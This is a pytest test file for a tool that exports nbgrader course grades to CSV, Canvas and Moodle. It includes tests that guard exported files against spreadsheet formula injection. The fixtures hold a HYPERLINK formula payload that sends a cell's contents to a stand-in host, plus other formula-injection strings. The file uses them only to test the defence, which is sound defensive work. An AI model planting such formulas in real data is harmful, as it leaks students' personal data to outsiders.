"""What leaves the gradebook for Excel, Canvas and Moodle, through our command and through nbgrader's."""

import csv
import json
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from coursekit import cli
from coursekit.grading.batch.ledger import LEDGER, Ledger
from coursekit.grading.gradebook.spreadsheet import harmless, number, write_csv
from coursekit.grading.gradebook.writer import GradebookWriter
from coursekit.grading.record import State

from .conftest import ASSIGNMENT, Course

ANSWERED = {"explain-flow": "It shrinks in every layer.", "explain-deaths": "A large step."}
MOMENT = datetime(2026, 3, 1, 12, tzinfo=UTC)
EVIL = '=HYPERLINK("https://x.example?"&A1,"x")'
CANVAS = f"""Student,ID,SIS User ID,SIS Login ID,Section,Activations (77)
    Points Possible,,,,,85.0
"Lovelace, Ada",1001,7001,ada,"CS 1, CS 2",3
"Müller, Jörg",1002,7002,ben,CS 1,
"{EVIL.replace('"', '""')}",1003,7003,evil,CS 1,
"Nobody, Nora",1004,7004,nora,CS 1,
"""
MOODLE = "First name,Last name,ID number,Email address\nAda,Lovelace,7001,ada@x.example\nJörg,Müller,,ben@x.example\n"


@pytest.fixture
def graded(course: Course, database: str, monkeypatch) -> tuple[Course, str]:
    """Six students: one of each kind that an export has to tell apart."""
    full, notebook = course.points, course.notebook(ANSWERED)
    records = {
        "ada": course.record(full, notebook),
        "ben": course.record({"relu": 2.5}, course.notebook()),
        "evil": course.record({"relu": 1 / 3}, notebook),
        "broken": course.record({}, state=State.UNREADABLE),
        "unlucky": course.record({}, state=State.INFRASTRUCTURE),
        "again": course.record(full, course.notebook()),
    }
    with GradebookWriter(course.folder, course.bundle, database) as writer:
        writer.write([(who, record, MOMENT) for who, record in records.items()])
    with Ledger(course.folder / LEDGER) as ledger:
        for who, record in records.items():
            ledger.put(who, record, submitted=MOMENT)
        ledger.put("again", course.record({}, state=State.INFRASTRUCTURE), submitted=MOMENT)
    with Gradebook(database, "coursekit") as gradebook:
        gradebook.update_or_create_student("ben", first_name="Jörg", last_name="Müller, Dr.", email="ben@x.example")
        gradebook.update_or_create_student("evil", first_name=EVIL, last_name="+1\n2")
        gradebook.add_student("absent", first_name="Ab", last_name="Sent")
        grade = gradebook.find_grade("explain-flow", ASSIGNMENT, ASSIGNMENT, "ada")
        grade.manual_score, grade.extra_credit, grade.needs_manual_grade = 3.0, 0.5, False
        gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "ben").late_submission_penalty = 1.0
        gradebook.db.commit()
    monkeypatch.chdir(course.folder)
    return course, database


def export(graded, capsys, *arguments: str) -> tuple[list[list[str]], str]:
    """The rows of the file that the command says it has written, and what it says besides."""
    _, database = graded
    code = cli.main(["export", ASSIGNMENT, "--db", database, *arguments])
    said = capsys.readouterr()
    assert code == 0, said.err
    content = Path(said.out.strip()).read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(content.decode("utf-8-sig").splitlines())), said.err


def test_the_detailed_file_has_everyone_every_cell_and_the_state(graded, capsys):
    course, _ = graded
    rows, said = export(graded, capsys)
    header, *body = rows
    table = {row[1]: dict(zip(header, row, strict=True)) for row in body}
    assert table.keys() == {"ada", "ben", "evil", "broken", "unlucky", "again", "absent"}
    cells = [f"check-{name}" for name in course.points]
    assert header[8 : 8 + len(cells)] == cells, "in the order of the release"
    total = sum(course.points.values())
    assert table["ada"]["score"] == f"{total + 3.5:g}"
    assert table["ada"]["explain-flow"] == "3.5"
    assert table["ada"]["explain-deaths"] == ""
    assert (table["ada"]["state"], table["ada"]["needs_manual_grade"]) == ("graded", "yes")
    assert table["ada"]["submitted"] == "2026-03-01 12:00:00 UTC"
    ben = table["ben"]
    assert (ben["raw_score"], ben["late_submission_penalty"], ben["score"]) == ("2.5", "1", "1.5")
    assert (ben["last_name"], ben["first_name"], ben["max_score"]) == ("Müller, Dr.", "Jörg", f"{total + 8:g}")
    assert (table["broken"]["state"], table["broken"]["score"]) == ("unreadable", "0")
    assert (table["unlucky"]["state"], table["unlucky"]["score"]) == ("infrastructure", "")
    assert (table["again"]["state"], table["again"]["score"]) == ("infrastructure", f"{total:g}")
    assert (table["absent"]["state"], table["absent"]["score"]) == ("not handed in", "")
    assert "left blank (1): unlucky" in said
    assert "an earlier grade stands (1): again" in said
    assert "unreadable, so the score is no measure (1): broken" in said
    assert "wait for a person, the score can still rise (2): ada, evil" in said


def autograded(course: Course, student: str, record: object, moment: datetime) -> None:
    """What `nbgrader autograde` leaves: the graded notebook, with the record in its metadata."""
    path = course.folder / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({"cells": [], "metadata": {"coursekit": {"record": record}}}), encoding="utf-8")
    os.utime(path, (moment.timestamp(), moment.timestamp()))


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_the_state_is_that_of_the_last_run_also_where_nbgrader_autograded(graded, capsys):
    course, database = graded
    before, later = datetime(2026, 1, 1, tzinfo=UTC), datetime(2100, 1, 1, tzinfo=UTC)
    slow = course.record({"relu": 1.0}, course.notebook(ANSWERED), relu=State.TIMEOUT)
    only_nbgrader = ("slow", "stranger", "odd")
    # Whose ledger says infrastructure is graded after all, and that one's written answers still wait for a person.
    with GradebookWriter(course.folder, course.bundle, database) as writer:
        writer.write([(who, slow, MOMENT) for who in (*only_nbgrader, "unlucky")])
    autograded(course, "slow", slow.to_dict(), later)
    autograded(course, "stranger", {**slow.to_dict(), "assignment": "optimizers"}, later)
    autograded(course, "odd", {**slow.to_dict(), "state": "splendid"}, later)
    autograded(course, "unlucky", slow.to_dict(), later)
    autograded(course, "again", slow.to_dict(), before)
    rows, said = export(graded, capsys)
    table = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert {who: table[who]["state"] for who in only_nbgrader} == {"slow": "timeout", "stranger": "", "odd": ""}
    assert (table["unlucky"]["state"], table["unlucky"]["score"]) == ("timeout", "1")
    assert table["again"]["state"] == "infrastructure"
    assert table["ada"]["state"] == "graded"
    assert "left blank" not in said


def test_canvas_without_a_roster(graded, capsys):
    rows, said = export(graded, capsys, "--to", "canvas")
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", ASSIGNMENT]
    assert rows[1][0] == "Points Possible"
    assert float(rows[1][5]) == sum(graded[0].points.values()) + 8
    scores = {row[3]: row[5] for row in rows[2:]}
    assert scores.keys() == {"ada", "ben", "evil", "broken", "unlucky", "again"}, "who handed in nothing is left out"
    assert (scores["ben"], scores["unlucky"], scores["evil"]) == ("1.5", "", "0.3333")
    assert "no roster was given" in said


def test_canvas_with_its_own_export_as_the_roster(graded, capsys):
    course, _ = graded
    (course.folder / "roster.csv").write_text(CANVAS, encoding="utf-8")
    rows, said = export(graded, capsys, "--to", "canvas", "--roster", "roster.csv", "--out", "out.csv")
    assert rows[0][5] == "Activations (77)"
    assert {row[1]: row[:5] for row in rows[2:]} == {
        "1001": ["Lovelace, Ada", "1001", "7001", "ada", "CS 1, CS 2"],
        "1002": ["Müller, Jörg", "1002", "7002", "ben", "CS 1"],
        "1003": [f"'{EVIL}", "1003", "7003", "evil", "CS 1"],
    }
    assert "in the roster, not in the gradebook (1): Nora Nobody (line 6)" in said
    assert "in the gradebook, not in the roster (4): absent, again, broken, unlucky" in said


def test_moodle_with_a_roster(graded, capsys):
    course, _ = graded
    (course.folder / "roster.csv").write_text(MOODLE, encoding="utf-8")
    rows, said = export(graded, capsys, "--to", "moodle", "--roster", "roster.csv")
    total = sum(course.points.values())
    assert rows == [
        ["Email address", "First name", "Last name", ASSIGNMENT],
        ["ada@x.example", "Ada", "Lovelace", f"{total + 3.5:g}"],
        ["ben@x.example", "Jörg", "Müller, Dr.", "1.5"],
    ]
    assert "map from Email address to Email address" in said
    assert "in the gradebook, not in the roster (5)" in said


def test_moodle_without_a_roster(graded, capsys):
    rows, _ = export(graded, capsys, "--to", "moodle")
    assert rows[0] == ["Username", "First name", "Last name", ASSIGNMENT]
    assert {row[0]: row[3] for row in rows[1:]}["unlucky"] == "-"


def test_nothing_that_a_student_wrote_is_a_formula(graded, capsys):
    for kind in ("csv", "canvas", "moodle"):
        rows, _ = export(graded, capsys, "--to", kind)
        assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+@\t\r") and cell]
        assert any(EVIL in cell for row in rows for cell in row), "it is there, as text"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", " \t=1", "\r\n=1", "＝1", "－1"])
def test_harmless(text):
    assert harmless(text) == "'" + text.strip()


@pytest.mark.parametrize("text", ["Ada", "O'Neil", "a=b", "Müller-Lüdenscheid", "7", "-", ""])
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("value", "text"), [(0.0, "0"), (10.0, "10"), (2.5, "2.5"), (1 / 3, "0.3333"), (1e6, "1000000"), (1e-9, "0")]
)
def test_numbers_are_written_out(value, text):
    assert number(value) == text


def test_texts_come_back_as_they_were(tmp_path):
    table = [["a,b", 'say "x"', "ü;ß", None, 0.5]]
    write_csv(tmp_path / "t.csv", table)
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [["a,b", 'say "x"', "ü;ß", "", "0.5"]]


@pytest.mark.grading
@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_as_plugins_of_nbgrader(graded):
    course, _ = graded
    (course.folder / "roster.csv").write_text(CANVAS, encoding="utf-8")
    where = "coursekit.grading.gradebook.exports"
    done = course.nbgrader(
        "export", f"--exporter={where}.CanvasExport", "--to=c.csv", "--CanvasExport.roster=roster.csv"
    )
    rows = list(csv.reader((course.folder / "c.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0][5] == "Activations (77)"
    assert "left blank (1): unlucky" in done.stderr
    course.nbgrader(
        "export", f"--exporter={where}.CsvExport", "--student=['ada','ben']", f"--assignment=['{ASSIGNMENT}']"
    )
    rows = list(csv.reader((course.folder / "grades.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert [row[1] for row in rows[1:]] == ["ada", "ben"]
    failed = course.nbgrader("export", f"--exporter={where}.MoodleExport", "--assignment=['nosuch']", check=False)
    assert failed.returncode == 1
    assert "has no assignment 'nosuch': there is activations" in failed.stderr
    assert "Traceback" not in failed.stderr


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["nosuch"], "has no assignment 'nosuch': there is activations"),
        ([ASSIGNMENT, "--db", "sqlite:///none.db"], "there is no gradebook"),
        ([ASSIGNMENT, "--db", "sqlite:///empty.db"], "holds no gradebook of nbgrader's"),
        ([ASSIGNMENT, "--roster", "none.csv"], "none.csv: No such file"),
        ([ASSIGNMENT, "--roster", "others.csv"], "nobody in others.csv was found in the gradebook"),
        ([ASSIGNMENT, "--out", "no/such/folder.csv"], "no/such/folder.csv: No such file"),
        ([ASSIGNMENT, "--to", "excel"], "--help"),
    ],
)
def test_what_cannot_be_exported_is_said_in_a_line(graded, capsys, arguments, words):
    course, _ = graded
    (course.folder / "empty.db").touch()
    (course.folder / "others.csv").write_text("student_id\nzoe\n")
    try:
        code = cli.main(["export", *arguments])
    except SystemExit as stop:
        code = stop.code
    said = capsys.readouterr().err
    assert code == 2
    assert said.count("\n") == 1
    assert words in said
    assert not (course.folder / "none.db").exists()


@pytest.mark.parametrize("kind", ["csv", "canvas", "moodle"])
def test_before_anything_is_graded_nothing_is_written(course, database, monkeypatch, capsys, kind):
    with Gradebook(database, "coursekit") as gradebook:
        gradebook.add_student("absent", first_name="Ab", last_name="Sent")
    monkeypatch.chdir(course.folder)
    before = sorted(course.folder.iterdir())
    assert cli.main(["export", ASSIGNMENT, "--to", kind, "--db", database]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err == f"coursekit: nobody has a grade for {ASSIGNMENT} yet: grade it first; nothing was written\n"
    assert sorted(course.folder.iterdir()) == before
